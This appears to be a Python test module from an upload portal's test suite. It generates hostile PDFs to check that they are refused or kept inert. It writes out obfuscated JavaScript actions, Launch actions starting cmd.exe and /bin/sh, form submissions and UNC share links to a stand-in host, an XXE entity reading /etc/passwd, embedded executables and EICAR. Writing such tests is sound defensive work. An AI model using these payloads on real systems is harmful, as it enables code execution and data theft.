"""PDFs that would do something: scripts, programs, forms that send, files inside, addresses that open by themselves."""

import io

import pikepdf

from portal.file_checks.antivirus import EICAR
from tests.uploads.hostile.kind import PHP, RUN, SCRIPT, End, Hostile, kind
from tests.uploads.hostile.plain import zipped
from tests.uploads.hostile.sources import document, stream, written

JS = b"<< /S /JavaScript /JS (app.alert\\('payload'\\)) >>"
WIDGET = b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] %s >>"
LINK = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %s >>"


def refused(content: bytes) -> Hostile:
    return Hostile("证明.pdf", content, End.REFUSED, "application/pdf")


def inert(content: bytes) -> Hostile:
    return Hostile("证明.pdf", content, End.INERT, "application/pdf")


def everywhere(deed: bytes, number: int) -> bytes:
    """A PDF with an action at one of the places that set one off."""
    places = [
        {"catalog": b"/OpenAction %s" % deed},
        {"catalog": b"/OpenAction 5 0 R", "more": [deed]},
        {"catalog": b"/AA << /WC %s >>" % deed},
        {"page": b"/AA << /O 5 0 R >>", "more": [deed]},
        {"page": b"/Annots [%s]" % (LINK % deed)},
        {"page": b"/Annots [5 0 R]", "more": [WIDGET % (b"/AA << /Fo %s >>" % deed)]},
        {"catalog": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [%s] >>" % deed},
        {"catalog": b"/Outlines << /First << /Title (a) /A %s >> /Count 1 >>" % deed},
        {"catalog": b"/AcroForm << /Fields [<< /FT /Tx /T (a) /AA << /K %s >> >>] >>" % deed},
        {"trailer": b"/Root << /Type /Catalog /Pages 2 0 R /OpenAction %s >> " % deed},
    ]
    return document(text=str(number), **places[number % len(places)])


@kind
def script_in_a_document(chance, number):
    return refused(everywhere(JS, number))


@kind
def hidden_script_in_a_document(chance, number):
    escaped = b"<< /#53 /J#61vaScript /J#53 <616c65727428> >>"
    packed = io.BytesIO()
    with pikepdf.open(io.BytesIO(document(catalog=b"/OpenAction 5 0 R", more=[JS]))) as whole:
        whole.save(packed, object_stream_mode=pikepdf.ObjectStreamMode.generate, deterministic_id=True)
    ways = [
        document(catalog=b"/OpenAction %s" % escaped),
        packed.getvalue(),
        document(catalog=b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", more=[JS]),
        document(catalog=b"/OpenAction << /S /JavaScript /JS 5 0 R >>", more=[stream(b"app.alert(1)")]),
        document(catalog=b"/OpenAction << /S /Rendition /JS (app.alert\\(1\\)) /OP 0 >>"),
        document(catalog=b"/OpenAction << /S /JavaScript /S /GoTo /JS (a) >>"),
        document(catalog=b"/OpenAction 5 0 R").replace(b"xref\n", b"5 0 obj\n" + JS + b"\nendobj\nxxxx\n", 1),
        document(catalog=b"/Dests << /a << /D [3 0 R /Fit] /A << /S /JavaScript /JS (a) >> >> >>"),
    ]
    return refused(ways[number % len(ways)])


@kind
def program_started_by_a_document(chance, number):
    deeds = [
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
        b"<< /S /Launch /Unix << /F (/bin/sh) /P (-c '%s') >> >>" % RUN,
    ]
    return refused(everywhere(deeds[number % 3], number))


@kind
def file_inside_a_document(chance, number):
    held, named = stream(RUN, b"/Type /EmbeddedFile"), b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"
    ways = [
        {"catalog": b"/Names << /EmbeddedFiles << /Names [(a.exe) %s] >> >>" % named, "more": [held]},
        {"page": b"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS %s >>]" % named, "more": [held]},
        {"catalog": b"/AF [%s]" % named, "more": [held]},
        {"more": [held]},
    ]
    return refused(document(text=str(number), **ways[number % 4]))


@kind
def form_that_sends(chance, number):
    deeds = [
        b"<< /S /SubmitForm /F (http://x.example/) /Flags 4 >>",
        b"<< /S /SubmitForm /F << /FS /URL /F (http://x.example/) >> >>",
        b"<< /S /ImportData /F (\\\\\\\\x.example\\\\a.fdf) >>",
    ]
    return refused(everywhere(deeds[number % 3], number))


@kind
def form_of_another_making(chance, number):
    """XFA: a program of its own in XML."""
    forms = [b"/XFA 5 0 R", b"/XFA [(template) 5 0 R]", b"/Fields [] /XFA (<xdp/>)", b"/#58FA 5 0 R"]
    entity = b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><xdp:xdp>&y;</xdp:xdp>'
    catalog = b"/AcroForm << %s >>" % forms[number % 4]
    return refused(document(text=str(number), catalog=catalog, more=[stream(entity)]))


@kind
def sound_film_and_model_in_a_document(chance, number):
    deeds = [b"/Rendition", b"/Movie", b"/Sound", b"/RichMediaExecute", b"/GoToE"]
    if number % 6 == 5:
        rich = b"<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << >> >> >>"
        return refused(document(page=b"/Annots [%s]" % rich))
    return refused(everywhere(b"<< /S %s >>" % deeds[number % 6], number))


@kind
def document_that_opens_an_address_by_itself(chance, number):
    deed = b"<< /S /URI /URI (http://x.example/?%d) >>" % number
    ways = [
        {"catalog": b"/OpenAction %s" % deed},
        {"catalog": b"/AA << /WP %s >>" % deed},
        {"page": b"/AA << /O %s >>" % deed},
        {"catalog": b"/OpenAction 5 0 R", "more": [deed]},
        {"catalog": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next %s >>" % deed},
        {"page": b"/Annots [%s]" % (WIDGET % (b"/AA << /PV %s >>" % deed))},
    ]
    return refused(document(**ways[number % 6]))


@kind
def address_that_is_a_script(chance, number):
    addresses = [
        b"javascript:alert\\(1\\)", b" JavaScript:alert\\(1\\)", b"vbscript:x", b"data:text/html,<script>1</script>",
        b"\\\\\\\\x.example\\\\share\\\\a", b"file://x.example/share/a", b"java\\nscript:alert\\(1\\)", b"search-ms:query=a",
    ]  # fmt: skip
    return refused(document(page=b"/Annots [%s]" % (LINK % (b"<< /S /URI /URI (%s) >>" % addresses[number % 8]))))


@kind
def share_of_another_host_by_other_spellings(chance, number):
    addresses = [
        b"//x.example/share/a", b"file:////x.example/share/a", b"file:\\\\\\\\x.example\\\\share", b"/\\\\x.example/share",
        b"file:///\\\\\\\\x.example\\\\share", b"smb://x.example/share", b"FILE:\\\\/x.example/share",
    ]  # fmt: skip
    if number % 8 == 7:
        return refused(document(catalog=b"/URI << /Base (\\\\\\\\x.example\\\\share\\\\) >>"))
    return refused(document(page=b"/Annots [%s]" % (LINK % (b"<< /S /URI /URI (%s) >>" % addresses[number % 8]))))


@kind
def note_that_plays_something(chance, number):
    """A model, a film or a sound in the page, not behind an action."""
    kinds = [b"/3D /3DD 5 0 R", b"/Movie /Movie << /F (a.mov) >>", b"/Sound /Sound 5 0 R", b"/3D /3DD 5 0 R /3DV null"]
    model = stream(b"%d" % number, b"/Type /3D /Subtype /U3D /OnInstantiate 6 0 R")
    note = b"<< /Type /Annot /Subtype %s /Rect [0 0 9 9] >>" % kinds[number % 4]
    return refused(document(page=b"/Annots [%s]" % note, more=[model, stream(b"app.alert(1)")]))


@kind
def other_file_opened_by_a_document(chance, number):
    file = [b"(\\\\\\\\x.example\\\\share\\\\a.pdf)", b"<< /FS /URL /F (http://x.example/a.pdf) >>", b"(a.pdf)"][
        number % 3
    ]
    return refused(everywhere(b"<< /S /GoToR /F %s /D [0 /Fit] >>" % file, number))


@kind
def contents_from_elsewhere(chance, number):
    """Streams whose bytes a reader would fetch from another file or another host."""
    where = [b"(/etc/passwd)", b"<< /FS /URL /F (http://x.example/) >>", b"(\\\\\\\\x.example\\\\a)"][number % 3]
    form = stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F %s /Page 0 >>" % where)
    if number % 2:
        return refused(document(text=str(number), page=b"/Resources << /XObject << /X 5 0 R >> >>", more=[form]))
    return refused(document(contents=stream(b"%%%d" % number, b"/F %s" % where)))


@kind
def document_that_is_a_page_too(chance, number):
    """Kept byte for byte, as HTML inside a comment of the PDF: it must never be served as a page."""
    return inert(document(comment=b"%" + SCRIPT + PHP + b"\n", text=str(number)))


@kind
def document_and_archive(chance, number):
    return inert(document(text=str(number)) + zipped({"a.html": SCRIPT}) + (b"\n%%EOF\n" if number % 2 else b""))


@kind
def locked_document(chance, number):
    """With a password or without one; the one kind whose bytes differ from run to run, as keys must."""
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    versions = [{"R": 2, "aes": False}, {"R": 3, "aes": False}, {"R": 4, "aes": False}, {"R": 4}, {"R": 6}]
    way = versions[number % 5]
    lock = pikepdf.Encryption(owner="owner", user="user" * (number % 2), metadata=way.get("aes", True), **way)
    made.save(out, encryption=lock)
    return refused(out.getvalue())


@kind
def virus_in_a_document(chance, number):
    return refused(
        [document() + EICAR, document(contents=stream(EICAR)), document(comment=b"%" + EICAR + b"\n")][number % 3]
        + b"%%%d\n" % number
    )


@kind
def document_without_pages_or_with_too_many(chance, number):
    many = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count %d /Kids [%s] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    ]
    count = [0, 501, 5000, 40_000][number % 4] + number * (number % 4 > 0)
    many[1] = many[1] % (count, b" ".join([b"3 0 R"] * count))
    return refused(written(many, comment=b"%%%d\n" % number))
